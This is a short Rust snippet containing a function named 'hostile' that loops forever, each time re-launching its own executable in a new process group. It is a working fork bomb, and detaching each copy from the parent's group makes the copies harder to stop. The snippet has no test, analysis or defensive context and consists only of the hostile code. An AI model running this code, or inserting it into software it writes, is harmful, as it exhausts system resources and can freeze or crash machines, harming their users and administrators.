// Starts itself again and again, away from its group.
fn hostile() {
    use std::os::unix::process::CommandExt;
    loop {
        if let Ok(me) = std::env::current_exe() {
            let _ = std::process::Command::new(me).process_group(0).spawn();
        }
    }
}
